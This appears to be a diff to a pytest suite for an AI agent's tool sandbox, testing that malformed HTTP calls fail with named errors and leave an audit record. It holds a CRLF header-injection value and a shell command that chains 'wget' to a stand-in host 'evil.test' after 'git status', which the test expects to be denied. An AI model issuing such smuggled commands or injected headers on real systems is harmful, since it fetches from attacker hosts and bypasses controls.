@@ -221,24 +221,24 @@ def test_a_host_header_naming_another_host_is_refused(bed: Testbed, agent: Agent
 # ------------------------------------------------- 5. malformed inputs, audit
 
 
-@pytest.mark.parametrize("label, args", [
-    ("bad-location", {"url": f"http://allowed.test:{PORT}/badloc"}),
-    ("port-99999", {"url": f"http://allowed.test:{PORT}/bigport"}),
+@pytest.mark.parametrize("label, args, named", [
+    ("bad-location", {"url": f"http://allowed.test:{PORT}/badloc"}, None),
+    ("port-99999", {"url": f"http://allowed.test:{PORT}/bigport"}, None),
     ("crlf-header", {"url": f"http://allowed.test:{PORT}/crlf",
-                     "headers": {"X-A": "1\r\nX-Injected: yes"}}),
-    ("bad-ipv6", {"url": "http://[::1/x"}),
-    ("port-in-url", {"url": "http://allowed.test:99999/x"}),
+                     "headers": {"X-A": "1\r\nX-Injected: yes"}}, "control characters"),
+    ("bad-ipv6", {"url": "http://[::1/x"}, "not a valid URL"),
+    ("port-in-url", {"url": "http://allowed.test:99999/x"}, "not a valid URL"),
 ])
 def test_every_malformed_call_ends_with_one_record_and_a_named_error(
-    bed: Testbed, agent: Agent, label: str, args: dict
+    bed: Testbed, agent: Agent, label: str, args: dict, named: str | None
 ) -> None:
     rc, out, err = agent.call(f"lev tool http_get --json '{json.dumps(args)}'")
     # Named: what was wrong, not "closed the connection" nor "internal error".
     assert "closed the connection" not in err and "internal error" not in err, (label, err)
-    if rc == 0:
-        assert json.loads(out)["status"] == 302, (label, out)  # the Location, not followed
+    if named is None:
+        assert rc == 0 and json.loads(out)["status"] == 302, (label, out)  # the Location
     else:
-        assert "invalid" in err or "failed" in err, (label, err)
+        assert rc != 0 and "invalid" in err and named in err, (label, err)
     rows = _records(bed, agent.id, "http_get", 1)
     assert len(rows) == 1, (label, rows)
     assert rows[0]["LEVIATH_OUTCOME"] in ("allow", "error"), rows
@@ -342,7 +342,7 @@ def test_a_shell_rule_matches_one_parsed_command_not_a_text_prefix(
 ) -> None:
     _private(agent, bed)
     rc, out, err = agent.call(
-        f"lev tool shell 'git status; wget -q -O- http://evil.test:{PORT}/viashell?d=x'")
+        f"lev tool shell 'git status; wget -q -O- http://evil.test:{PORT}/viashell'")
     assert rc != 0 and "denied" in err, out + err
     assert not [h for h in hits(bed) if h.startswith("evil.test")]
     # The rule still covers what it names.
